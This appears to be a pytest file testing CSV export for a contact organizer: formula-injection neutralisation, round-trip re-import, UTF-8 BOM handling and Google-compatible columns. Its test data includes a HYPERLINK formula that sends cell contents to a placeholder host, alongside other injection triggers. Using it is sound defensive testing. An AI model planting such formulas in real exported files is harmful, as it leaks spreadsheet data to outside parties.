"""CSV export: RELIABILITY.md CSV-1 to CSV-5, and the round trip through our own import."""

from __future__ import annotations

import csv

import pytest

from organizer.contacts import ContactData, create_contact
from organizer.models import TABLES
from organizer.transfer.exporting import export_file
from organizer.transfer.importer import import_file
from organizer.transfer.safety import protect, unprotect

from .helpers import all_data, contact_named

SAMPLES = ['=HYPERLINK("http://x/?"&A2,"Click")', "+1 555 0100", "-5% discount", "@SUM(1,2)",
           "'=x", "''=x", "'plain", "plain", "\tindented", "\rcr", "\nlf", "\uff1dfull", "\0nul",
           "Müller", ""]


@pytest.mark.parametrize("value", SAMPLES)
def test_protect_round_trips_every_sample(value):
    assert unprotect(protect(value)) == value


@pytest.mark.parametrize("value", ['=1+1', "+1", "-1", "@a", "\tx", "\rx", "\nx", "\uff1dx",
                                   "\uff0bx", "\uff0dx", "\uff20x", "\0x", "'=x"])
def test_csv4_every_trigger_is_neutralised(value):
    assert protect(value).startswith("'")


def _export(db, clock, tmp_path, **fields):
    create_contact(db, clock, ContactData(**fields))
    path = tmp_path / "out.csv"
    export_file(db, clock, path)
    return path


def test_csv1_hyperlink_cell_is_quoted_text(db, clock, tmp_path):
    formula = '=HYPERLINK("http://x/?"&A2,"Click")'
    path = _export(db, clock, tmp_path, first_name="Ann", last_name="Lee", notes=formula)
    raw = path.read_text(encoding="utf-8-sig")
    assert '"\'=HYPERLINK(""http://x/?""&A2,""Click"")"' in raw


def test_csv2_csv3_our_reimport_restores_the_exact_values(db, clock, tmp_path):
    _export(db, clock, tmp_path, first_name="'=x", last_name="Lee", company="@SUM(1,2)",
            notes="-5% discount", phones=(("work", "+1 555 0100"),))
    before = all_data(db)
    from organizer.database import open_database

    other = open_database(tmp_path / "other.db")
    try:
        import_file(other, clock, tmp_path / "out.csv", backup=False)
        after = all_data(other)
    finally:
        other.close()
        db.bind(TABLES, bind_refs=False, bind_backrefs=False)  # back to the test's database
    assert [(d.first_name, d.company, d.notes, d.phones) for d in after] == \
        [(d.first_name, d.company, d.notes, d.phones) for d in before]
    assert after[0].first_name == "'=x"


def test_csv5_utf8_with_bom_and_no_blank_lines(db, clock, tmp_path):
    path = _export(db, clock, tmp_path, first_name="Jürgen", last_name="Müller",
                   notes="line one\nline two")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert b"\r\r\n" not in raw and b"\n\r\n" not in raw
    rows = list(csv.reader(path.open(encoding="utf-8-sig", newline="")))
    assert len(rows) == 2 and rows[1][0] == "Jürgen" and rows[1][5] == "line one\nline two"


def test_google_columns_and_reimport_of_everything(db, clock, tmp_path):
    create_contact(db, clock, ContactData(
        first_name="Ann", last_name="Lee", company="Acme", job_title="Buyer",
        emails=(("work", "ann@acme.com"), ("home", "ann@home.org"), ("", "a@b.cd"), ("x", "x@y.io")),
        phones=(("mobile", "+1 415 555 0101"), ("work", "+1 415 555 0102")),
        street="1 Main St", city="Springfield", region="IL", postal_code="62701", country="US",
        stage="proposal", source="trade fair", tags=("vip", "2026"), notes="likes golf"))
    path = tmp_path / "g.csv"
    export_file(db, clock, path)
    header = next(csv.reader(path.open(encoding="utf-8-sig", newline="")))
    assert header[:5] == ["First Name", "Middle Name", "Last Name", "Organization Name",
                          "Organization Title"]
    assert "E-mail 1 - Value" in header and "Phone 1 - Value" in header
    before = contact_named(db, "Ann Lee")
    from organizer.models import Contact

    Contact.delete().execute()
    import_file(db, clock, path, backup=False)
    after = contact_named(db, "Ann Lee")
    assert after.emails[:2] == before.emails[:2]
    assert {a for _l, a in after.emails} == {a for _l, a in before.emails}
    assert after.phones == before.phones
    for name in ("company", "job_title", "street", "city", "region", "postal_code", "country",
                 "stage", "source", "notes"):
        assert getattr(after, name) == getattr(before, name), name
    assert sorted(after.tags) == sorted(before.tags)
